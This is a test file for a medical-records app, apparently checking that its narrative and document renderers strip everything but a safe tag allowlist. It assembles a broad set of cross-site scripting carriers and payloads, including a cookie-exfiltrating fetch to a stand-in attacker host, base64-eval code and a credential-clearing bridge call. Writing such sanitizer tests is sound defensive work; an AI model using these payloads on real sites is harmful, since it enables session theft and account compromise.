import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { narrativeOf } from '../../../main/record/narrative-of.ts';
import { readDocument } from '../../../main/record/documents/read-document.ts';
import { ReadableBlocks } from '../../../renderer/components/readable-blocks.tsx';

/** What a script would be put into, and what it would be. Each is combined with each. */
const carriers: readonly ((payload: string) => string)[] = [
  (payload) => `<script>${payload}</script>`,
  (payload) => `<script src="https://evil.example/x.js">${payload}</script>`,
  (payload) => `<img src=x onerror="${payload}">`,
  (payload) => `<svg onload="${payload}"><script>${payload}</script></svg>`,
  (payload) => `<a href="javascript:${payload}">click</a>`,
  (payload) => `<a href=" java\u0000script:${payload}">click</a>`,
  (payload) => `<iframe srcdoc="<script>${payload}</script>" src="https://evil.example"></iframe>`,
  (payload) => `<object data="data:text/html,<script>${payload}</script>"></object>`,
  (payload) => `<embed src="file:///etc/passwd"><b onmouseover="${payload}">bold</b>`,
  (payload) => `<form action="https://evil.example"><input autofocus onfocus="${payload}"><button>send</button></form>`,
  (payload) => `<style>@import url("https://evil.example/${payload}.css"); p{background:url(//evil.example)}</style>`,
  (payload) => `<meta http-equiv="refresh" content="0;url=https://evil.example/?${payload}">`,
  (payload) => `<base href="https://evil.example"><link rel="stylesheet" href="\\\\evil\\share\\${payload}">`,
  (payload) =>
    `<math><mtext><table><mglyph><style><img src onerror="${payload}"></style></mglyph></table></mtext></math>`,
  (payload) => `<noscript><p title="</noscript><img src=x onerror=${payload}>"></noscript>`,
  (payload) => `<!--><img src=x onerror="${payload}">-->`,
  (payload) => `<![CDATA[<img src=x onerror="${payload}">]]>`,
  (payload) =>
    `<table background="https://evil.example"><tr><td style="x:expression(${payload})">cell</td></tr></table>`,
  (payload) => `<video><source onerror="${payload}"></video><audio src="https://evil.example" autoplay></audio>`,
  (payload) => `<template><script>${payload}</script></template><details open ontoggle="${payload}">more</details>`,
];
const payloads = [
  'alert(1)',
  'window.chartkeeper.call("credentials.forget",{})',
  'fetch(`https://evil.example/${document.cookie}`)',
  'top.location="https://evil.example"',
  'eval(atob("YWxlcnQoMSk="))',
];
const wrappings: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `<div xmlns="http://www.w3.org/1999/xhtml"><p>before</p>${html}<p>after</p></div>`,
  (html) => html.toUpperCase(),
  (html) => html.replaceAll('<', '<\n'),
  (html) => `<ul><li>${html}</li></ul>`,
  (html) => html.slice(0, -1),
];

const all = carriers.flatMap((carry) => payloads.flatMap((payload) => wrappings.map((wrap) => wrap(carry(payload)))));
const allowed =
  /^<\/?(?:div|p|h[2-5]|ul|ol|li|pre|dl|dt|dd|table|caption|thead|tbody|tr|th|td|span|strong|em|s)(?: class="[\w -]*")?(?: (?:colSpan|rowSpan|colspan|rowspan)="\d+")*>$/;

const tagsOf = (html: string): readonly string[] => html.match(/<[^>]*>/g) ?? [];

test(`3: of ${all.length} narratives nothing is left but words, whatever is hidden in them`, () => {
  expect(all.length).toBeGreaterThanOrEqual(500);
  for (const div of all) {
    const shown = renderToStaticMarkup(
      <ReadableBlocks blocks={narrativeOf({ resourceType: 'Observation', text: { status: 'generated', div } })} />,
    );
    for (const tag of tagsOf(shown)) expect(tag).toMatch(allowed);
  }
});

test('3, 25: nor of documents in any format', () => {
  for (const html of all) {
    for (const [type, text] of [
      ['text/html', html],
      ['application/xml', `<x>${html}</x>`],
      [
        'text/rtf',
        `{\\rtf1 ${html} {\\object\\objdata 0105} {\\field{\\*\\fldinst HYPERLINK "javascript:1"}{\\fldrslt go}}}`,
      ],
      [
        'application/xml',
        `<ClinicalDocument xmlns="urn:hl7-org:v3"><title>t</title><component><structuredBody><component><section><title>s</title><text>${html}</text></section></component></structuredBody></component></ClinicalDocument>`,
      ],
    ] as const) {
      const read = readDocument(Buffer.from(text), type);
      const shown = renderToStaticMarkup(<ReadableBlocks blocks={read?.blocks ?? []} />);
      for (const tag of tagsOf(shown)) expect(tag).toMatch(allowed);
    }
  }
});

test('3: the readable words of an honest narrative are all there', () => {
  const div =
    '<div xmlns="http://www.w3.org/1999/xhtml"><h3>Plan</h3><p>Take <b>one</b> tablet &amp; rest.<br/>Come back.</p><ul><li>Walk</li></ul><table><tr><th>Test</th><td>6.4 %</td></tr></table></div>';
  const shown = renderToStaticMarkup(<ReadableBlocks blocks={narrativeOf({ resourceType: 'Basic', text: { div } })} />);
  const words = shown.replaceAll(/<[^>]*>/g, ' ').replaceAll(/\s+/g, ' ');
  for (const part of ['Plan', 'Take', 'one', 'tablet &amp; rest.', 'Come back.', 'Walk', 'Test', '6.4 %'])
    expect(words).toContain(part);
});
